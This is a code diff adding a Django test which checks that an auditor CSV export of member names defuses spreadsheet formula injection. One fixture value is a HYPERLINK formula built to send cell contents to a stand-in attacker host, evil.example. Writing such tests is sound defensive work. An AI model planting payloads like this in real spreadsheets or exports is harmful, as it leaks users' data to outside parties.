@@ -223,6 +223,35 @@ class TestAuditors:
         AuditorGrant.objects.update(expires_on=timezone.localdate() - timedelta(days=1))
         assert client.get(reverse("auditor:certificate_pdf", args=[mine.pk])).status_code == 404
 
+    def test_the_csv_export_neutralises_spreadsheet_formulas(self, client, staff_user):
+        import csv
+        from datetime import timedelta
+
+        from django.utils import timezone
+
+        from compliance.models import AuditorGrant
+        from tests.helpers import login_with_mfa
+
+        hostile = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
+        member = MemberFactory(legal_name=hostile)
+        plain = MemberFactory(legal_name="Antwerp Rough NV")
+        person = auditor()
+        for granted in (member, plain):
+            services.auditor_grant_save(
+                actor=staff_user,
+                grant=AuditorGrant(
+                    auditor=person,
+                    member=granted,
+                    expires_on=timezone.localdate() + timedelta(days=30),
+                ),
+            )
+        login_with_mfa(client, person)
+        response = client.get(reverse("auditor:members_csv"))
+        rows = list(csv.reader(io.StringIO(response.content.decode())))
+        names = {row[0] for row in rows[1:]}
+        assert names == {"'" + hostile, "Antwerp Rough NV"}
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
     def test_non_auditors_find_nothing(
         self, client, staff_user, django_capture_on_commit_callbacks
     ):
